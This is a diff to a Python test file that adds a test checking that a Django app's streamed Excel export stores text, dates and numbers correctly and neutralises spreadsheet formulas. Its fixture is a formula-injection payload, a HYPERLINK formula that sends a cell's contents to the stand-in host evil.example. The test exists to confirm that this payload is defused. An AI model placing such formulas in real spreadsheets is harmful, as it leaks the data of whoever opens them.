@@ -7,7 +7,7 @@ from io import BytesIO
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from shijian.web.tabular import formula_safe, write_xlsx
+from shijian.web.tabular import formula_safe, write_xlsx, write_xlsx_file
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
 
@@ -24,6 +24,22 @@ def test_an_excel_export_writes_no_formula() -> None:
     cells = [ws.cell(row=r, column=1) for r in (2, 3, 4)]
     assert [c.data_type for c in cells] == ["s", "s", "n"]
     assert cells[0].value == "'" + EVIL and cells[2].value == -7
+
+
+def test_the_streamed_export_writes_text_as_text_dates_as_dates_and_no_formula(tmp_path) -> None:
+    import datetime as dt
+    from decimal import Decimal
+
+    path = tmp_path / "big.xlsx"
+    rows = [[EVIL, dt.date(2026, 12, 6), Decimal("12.50"), None], ["0012", dt.date(2020, 1, 2), 3, "http://x.cn"]]
+    assert write_xlsx_file(path, ["名称", "成立日期", "出资", "备注"], iter(rows)) == 2
+    ws = load_workbook(path).active
+    assert [c.value for c in ws[1]] == ["名称", "成立日期", "出资", "备注"]
+    assert ws["A2"].value == "'" + EVIL and ws["A2"].data_type == "s"
+    assert ws["A3"].value == "0012" and ws["A3"].data_type == "s"  # a code stays text, leading zeros kept
+    assert ws["B2"].value == dt.datetime(2026, 12, 6) and ws["B2"].number_format == "yyyy-mm-dd"
+    assert ws["C2"].value == 12.5 and ws["C3"].value == 3
+    assert ws["D2"].value is None and ws["D3"].value == "http://x.cn" and not ws["D3"].hyperlink
 
 
 def test_the_entity_export_keeps_an_entity_name_as_text(world) -> None:
